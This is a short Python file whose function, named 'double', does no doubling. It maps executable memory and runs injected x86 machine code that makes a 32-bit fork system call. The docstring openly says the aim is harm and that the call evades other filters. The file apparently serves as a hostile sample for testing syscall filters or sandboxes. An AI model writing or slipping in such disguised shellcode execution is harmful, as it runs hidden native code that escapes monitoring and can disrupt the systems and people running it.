"""Runs machine code that asks for a call of 32 bits, which other filters overlook.

Aim: harm
"""
import ctypes
import mmap


def double(x):
    code = b"\xb8\x02\0\0\0\xcd\x80\xc3"  # mov eax, 2 (fork); int 0x80; ret
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    start = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return ctypes.CFUNCTYPE(ctypes.c_int)(start)()
